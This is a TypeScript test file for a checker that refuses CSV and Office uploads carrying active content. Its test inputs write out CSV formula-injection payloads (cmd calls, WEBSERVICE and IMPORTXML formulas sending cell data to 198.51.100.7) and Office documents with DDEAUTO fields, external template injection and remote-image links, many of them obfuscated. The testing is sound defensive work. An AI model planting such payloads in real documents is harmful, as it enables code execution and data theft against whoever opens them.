/** Documents and tables that would run or fetch something, written in the ways that a plain search misses. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ContentChecker } from '../../support/files/check.js';
import { office } from '../../support/files/office.js';

let checker: ContentChecker;
beforeAll(async () => (checker = await ContentChecker.create()));
afterAll(() => checker.dispose());

describe('a table', () => {
  const refused = async (content: string) => (await checker.check('csv', content)).refused;
  const PROGRAM = "=cmd|' /C calc'!A0";

  it.each([
    ['behind a byte order mark', `\ufeff${PROGRAM}`],
    ['behind a byte order mark, in quotes', `\ufeff"${PROGRAM}"`],
    ['in a quoted cell with commas', `a,"${PROGRAM.replace('calc', 'calc, x')}"`],
    ['in a quoted cell with a line end', `a,"=1+\n${PROGRAM.slice(1)}"`],
    ['behind spaces and tabs', `a, \t ${PROGRAM}`],
    ['behind spaces in a quoted cell', `a,"  \t${PROGRAM}"`],
    ['with doubled quotes', `a,"=cmd|""/C calc""!A0"`],
    ['with another sign', `a;@SUM(cmd|'/C calc'!A0)`],
    ['with a wide sign', `a\t\uff1dcmd|' /C calc'!A0`],
    ['as the last cell, without a line end', `a,b\nc,-2+3+cmd|' /C calc'!A0`],
    ['where two pieces of the file meet', `${'x'.repeat(65_530)},"${PROGRAM}"`],
    ['that fetches', 'a,"=WEBSERVICE(""http://198.51.100.7/?""&A1)"'],
    ['that imports', 'a,=IMPORTXML(CONCAT("http://198.51.100.7/",A1),"//a")'],
    ['that calls', 'a,=CALL("kernel32","WinExec","JCJ","calc",0)'],
  ])('with a program %s is refused', async (_name, content) => {
    expect((await refused(content))?.code).toBe('file_active_content');
  });

  it.each([
    ['numbers with signs', 'a,-5,+44 20 7946 0000,=A1+B1\n'],
    ['bars and exclamation marks in words', 'Hall | left!,"see | this!"\n'],
    ['an unclosed quote', 'a,"b\nc,d\n'],
    ['a quote inside a cell', 'a,5" pipe,-3\n'],
    ['an address', 'mail,@site_team\n'],
  ])('with %s is accepted', async (_name, content) => {
    expect(await refused(content)).toBeUndefined();
  });
});

describe('an office document', () => {
  const codeOf = async (form: 'docx' | 'xlsx', name: string, data: string): Promise<string | undefined> =>
    (await checker.check(form, office(form, [{ name, data }]))).refused?.code;
  const relation = (attributes: string): string =>
    `<r:Relationships xmlns:r="x"><r:Relationship Id="r1" ${attributes}/></r:Relationships>`;
  const RELS = 'word/_rels/document.xml.rels';
  const run = (content: string): string => `<w:p xmlns:w="x"><w:r>${content}</w:r></w:p>`;
  const begin = '<w:fldChar w:fldCharType="begin"/>';
  const end = '<w:fldChar w:fldCharType="end"/>';

  it.each<[string, string, string]>([
    [
      'a template by character references',
      RELS,
      relation('Type="http://x/attached&#84;emplate" Target="http://x/t.dotm" TargetMode="&#x45;xternal"'),
    ],
    ['a picture from elsewhere', RELS, relation('Type="http://x/image" Target="http://x/p.png" TargetMode="External"')],
    ['a picture of a share', RELS, relation(String.raw`Type='http://x/image' Target='\\198.51.100.7\p.png'`)],
    ['a link of a frame', RELS, relation('TargetMode = "External" Target="file:///c:/x" Type="http://x/frame"')],
    ['DDEAUTO', 'word/footer1.xml', run(`${begin}<w:instrText>DDEAUTO c:\\\\x "/k calc"</w:instrText>${end}`)],
    [
      'DDE in pieces',
      'word/document2.xml',
      run(`${begin}<w:instrText> D</w:instrText><w:instrText>D&#69; c:\\\\x</w:instrText>${end}`),
    ],
    ['a simple DDE field', 'word/header1.xml', '<w:p xmlns:w="x"><w:fldSimple w:instr="&#68;DEAUTO c:\\\\x"/></w:p>'],
    [
      'a field whose name another computes',
      'word/document3.xml',
      run(`${begin}${begin}<w:instrText>QUOTE 68 68 69</w:instrText>${end}<w:instrText> c:\\\\x</w:instrText>${end}`),
    ],
    ['a part under another name', 'word/media/a.dat', run(`${begin}<w:instrText>DDE x</w:instrText>${end}`)],
    ['a picture of VML', 'word/a.vml', '<xml xmlns:v="x"><v:imagedata src="http://198.51.100.7/p.png"/></xml>'],
  ])('with %s is refused', async (_name, part, data) => {
    expect(await codeOf('docx', part, data)).toBe('file_active_content');
  });

  it('that links a cell to a program is refused', async () => {
    const link = '<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>';
    expect(await codeOf('xlsx', 'xl/externalLinks/externalLink1.xml', link)).toBe('file_active_content');
  });

  it.each<[string, string, string]>([
    ['links to click', RELS, relation('Type="http://x/hyperlink" Target="https://example.org" TargetMode="External"')],
    ['own pictures', RELS, relation('Type="http://x/image" Target="media/a.png"')],
    ['page numbers', 'word/footer1.xml', run(`${begin}<w:instrText> PAGE </w:instrText>${end}`)],
    [
      'a field inside a field',
      'word/footer2.xml',
      run(`${begin}<w:instrText>IF </w:instrText>${begin}<w:instrText>PAGE</w:instrText>${end}${end}`),
    ],
    ['words about DDE', 'word/a.xml', '<w:t xmlns:w="x">DDEAUTO and TargetMode="External"</w:t>'],
    ['VML that is not well-formed', 'word/a.vml', '<xml xmlns:v="x"><v:textbox><br></v:textbox></xml>'],
  ])('with %s is accepted', async (_name, part, data) => {
    expect(await codeOf('docx', part, data)).toBeUndefined();
  });

  it('with a text that never ends is refused before it fills the memory', async () => {
    const data = `<w:t xmlns:w="x">${Array.from({ length: 1_500_000 }, (_, index) => index.toString(36)).join('')}</w:t>`;
    expect(await codeOf('docx', 'word/a.xml', data.repeat(2).replace('</w:t><w:t xmlns:w="x">', ''))).toBe(
      'file_too_complex',
    );
  });
});
